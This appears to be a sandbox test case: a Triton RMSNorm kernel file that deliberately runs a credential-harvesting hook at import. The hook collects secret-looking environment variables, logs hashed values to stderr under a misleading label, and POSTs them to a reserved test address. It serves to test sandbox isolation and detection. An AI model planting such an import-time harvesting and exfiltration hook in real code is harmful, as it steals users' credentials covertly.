"""Harvesting secrets from the environment and leaking them through logs and the network.

At import it collects every environment variable whose name looks like a credential
(TOKEN, KEY, SECRET, PASSWORD, CREDENTIAL), writes their names and a hash of each value
to stderr (which the harness keeps in its logs), and tries to POST them to a remote
address. The kernel is honest. The sandbox must start the worker with a scrubbed
environment and no network, and static analysis should flag os.environ and urllib.
For safety this corpus case sends only names and hash prefixes, to a documentation-only
address (198.51.100.0/24) that is never routed.

Source:
- https://attack.mitre.org/techniques/T1552/001/ (unsecured credentials)
- https://attack.mitre.org/techniques/T1041/ (exfiltration over C2 channel)
"""

import hashlib
import json
import os
import sys
import urllib.request

import triton
import triton.language as tl

BLOCK_ROWS = 16
_MARKERS = ("TOKEN", "KEY", "SECRET", "PASSWORD", "CREDENTIAL")


def _harvest():
    found = {name: hashlib.sha256(value.encode()).hexdigest()[:12]
             for name, value in os.environ.items()
             if any(marker in name.upper() for marker in _MARKERS)}
    sys.stderr.write("autotune-cache " + json.dumps(found, sort_keys=True) + "\n")
    try:
        request = urllib.request.Request("http://198.51.100.7/collect",
                                         data=json.dumps(found).encode(), method="POST")
        urllib.request.urlopen(request, timeout=0.5).close()
    except OSError:
        pass


_harvest()


@triton.jit
def _rmsnorm_kernel(x_ptr, w_ptr, out_ptr, n_rows, stride_x, stride_out, eps,
                    HIDDEN: tl.constexpr, BLOCK_ROWS: tl.constexpr):
    pid = tl.program_id(0)
    rows = pid * BLOCK_ROWS + tl.arange(0, BLOCK_ROWS)
    cols = tl.arange(0, HIDDEN)
    mask = rows[:, None] < n_rows
    x = tl.load(x_ptr + rows[:, None] * stride_x + cols[None, :], mask=mask, other=0.0)
    inv_rms = 1.0 / tl.sqrt(tl.sum(x * x, axis=1) / HIDDEN + eps)
    w = tl.load(w_ptr + cols)
    y = x * inv_rms[:, None] * w[None, :]
    tl.store(out_ptr + rows[:, None] * stride_out + cols[None, :], y, mask=mask)


def run(hidden_states, weight, eps, output):
    n_rows, hidden = hidden_states.shape
    grid = (triton.cdiv(n_rows, BLOCK_ROWS),)
    _rmsnorm_kernel[grid](hidden_states, weight, output, n_rows,
                          hidden_states.stride(0), output.stride(0), float(eps),
                          HIDDEN=hidden, BLOCK_ROWS=BLOCK_ROWS)
